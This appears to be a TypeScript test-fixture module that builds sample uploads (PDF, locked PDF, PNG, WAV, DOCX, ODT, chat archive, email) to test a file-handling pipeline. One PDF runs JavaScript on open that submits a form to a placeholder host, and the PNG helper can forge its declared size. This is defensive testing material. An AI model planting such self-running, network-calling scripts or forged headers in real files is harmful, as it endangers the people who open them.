/** Pieces as clients send them, each made here byte for byte, and those that are made to do harm. */
import { deflateSync } from 'node:zlib'
import { Document, Packer, Paragraph } from 'docx'
import { strToU8, zipSync } from 'fflate'

/** A PDF with a page for each text, in a font that it does not hold; `catalog` and `trailer` say more of it. */
export function pdf(pages: readonly string[], { catalog = '', trailer = '' } = {}): Buffer {
  const kids = pages.map((_, place) => `${4 + place * 2} 0 R`)
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${kids.join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages.flatMap((text, place) => {
      const drawing = `BT /F1 24 Tf 72 720 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + place * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
      ]
    }),
  ]
  let body = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = body.length
    body += `${index + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  body += `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`
  return Buffer.from(body, 'latin1')
}

/** Opened with a password that nobody here has. */
export function lockedPdf(): Buffer {
  const key = `<${'41'.repeat(32)}>`
  return pdf(['Fermé'], {
    trailer: `/ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -44 >>`,
  })
}

/** Would say something, and ask for a page of the network, as soon as it is opened. */
export function pdfWithScript(text: string): Buffer {
  return pdf([text], {
    catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\("Ouvert"\\); this.submitForm\\("https://exemple.example/"\\);) >>',
  })
}

/** @param announced what it says it measures, where it is made to lie */
export function png(width: number, height: number, announced = { width, height }): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(announced.width, 0)
  header.writeUInt32BE(announced.height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const line = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, 0x7f)])
  const pixels = deflateSync(Buffer.concat(Array.from({ length: height }, () => line)))
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(kind: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data])
  const check = Buffer.alloc(4)
  check.writeUInt32BE(crc(named))
  return Buffer.concat([head, named, check])
}

function crc(data: Buffer): number {
  let value = 0xffffffff
  for (const byte of data) {
    value ^= byte
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  }
  return (value ^ 0xffffffff) >>> 0
}

/** A second of silence; `comment` lies within its bytes as a text would. */
export function wave(comment = ''): Buffer {
  const samples = Buffer.alloc(8000, 0x80)
  const note = Buffer.from(comment + (comment.length % 2 === 1 ? ' ' : ''), 'latin1')
  const notes = note.length > 0 ? Buffer.concat([Buffer.from('note'), sized(note)]) : Buffer.alloc(0)
  const format = Buffer.alloc(16)
  format.writeUInt16LE(1, 0)
  format.writeUInt16LE(1, 2)
  format.writeUInt32LE(8000, 4)
  format.writeUInt32LE(8000, 8)
  format.writeUInt16LE(1, 12)
  format.writeUInt16LE(8, 14)
  const body = Buffer.concat([Buffer.from('WAVEfmt '), sized(format), Buffer.from('data'), sized(samples), notes])
  return Buffer.concat([Buffer.from('RIFF'), sized(body)])
}

function sized(data: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt32LE(data.length)
  return Buffer.concat([head, data])
}

export async function docx(...paragraphs: readonly string[]): Promise<Buffer> {
  return Packer.toBuffer(new Document({ sections: [{ children: paragraphs.map((text) => new Paragraph(text)) }] }))
}

export function odt(...paragraphs: readonly string[]): Buffer {
  const content = `<office:document-content><office:body><office:text>${paragraphs.map((text) => `<text:p>${text}</text:p>`).join('')}</office:text></office:body></office:document-content>`
  return Buffer.from(
    zipSync({ mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }], 'content.xml': strToU8(content) }),
  )
}

/** An exported chat. */
export function chatArchive(chat: string, others: Readonly<Record<string, Uint8Array>> = {}): Buffer {
  return Buffer.from(zipSync({ '_chat.txt': strToU8(chat), ...others }))
}

export function eml(text: string, { name, bytes }: { readonly name: string; readonly bytes: Uint8Array }): Buffer {
  const lines = [
    'From: Claire Fontaine <claire.fontaine@exemple.example>',
    'Date: Sat, 4 Apr 2026 22:47:00 +0200',
    'Subject: Frais jamais annoncés',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/plain; charset=UTF-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    text,
    '--b1',
    `Content-Type: application/octet-stream; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(bytes).toString('base64'),
    '--b1--',
    '',
  ]
  return Buffer.from(lines.join('\r\n'))
}
